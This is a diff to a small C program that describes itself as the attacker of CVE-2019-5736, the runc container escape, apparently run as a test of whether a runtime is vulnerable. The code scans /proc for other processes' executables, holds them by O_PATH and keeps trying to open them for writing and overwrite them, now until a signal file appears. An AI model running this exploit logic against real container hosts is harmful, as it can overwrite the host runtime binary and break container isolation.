@@ -1,9 +1,10 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /*
- * overwrite SECONDS NAME: the attacker of CVE-2019-5736, as the first process of a container. For
- * so long it looks at /proc/PID/exe of every other process, keeps those whose target contains NAME
- * by O_PATH, and tries again and again to open them for writing and to write. At the end one line:
- * "seen N opened N written N".
+ * overwrite FILE NAME: the attacker of CVE-2019-5736, as the first process of a container. Until
+ * FILE appears it looks at /proc/PID/exe of every other process, keeps those whose target contains
+ * NAME by O_PATH, and tries again and again to open them for writing and to write. It says
+ * "looking" at the start, "found" when it has the first, and at the end "seen N opened N written
+ * N".
  */
 #include <ctype.h>
 #include <dirent.h>
@@ -11,7 +12,6 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
-#include <time.h>
 #include <unistd.h>
 
 #define KEPT_MAX 128
@@ -29,8 +29,11 @@ look_at (const char *pid, const char *name)
 	    n_kept == KEPT_MAX)
 		return;
 	fd = open (path, O_PATH);
-	if (fd >= 0)
-		kept[n_kept++] = fd;
+	if (fd < 0)
+		return;
+	if (n_kept == 0)
+		printf ("found\n");
+	kept[n_kept++] = fd;
 }
 
 static void
@@ -54,21 +57,22 @@ try_all (void)
 int
 main (int argc, char **argv)
 {
-	time_t end = time (NULL) + (argc > 1 ? atoi (argv[1]) : 1);
-
+	if (argc != 3)
+		return 2;
 	setvbuf (stdout, NULL, _IOLBF, 0);
 	printf ("looking\n");
-	while (time (NULL) <= end) {
+	while (access (argv[1], F_OK) < 0) {
 		DIR *d = opendir ("/proc");
 
 		for (struct dirent *de; d && (de = readdir (d)) != NULL;)
 			if (isdigit ((unsigned char) de->d_name[0]) &&
 			    strcmp (de->d_name, "1") != 0)
-				look_at (de->d_name, argc > 2 ? argv[2] : "");
+				look_at (de->d_name, argv[2]);
 		if (d)
 			closedir (d);
 		try_all ();
 	}
+	try_all ();
 	printf ("seen %d opened %d written %d\n", n_kept, opened, written);
 	return 0;
 }
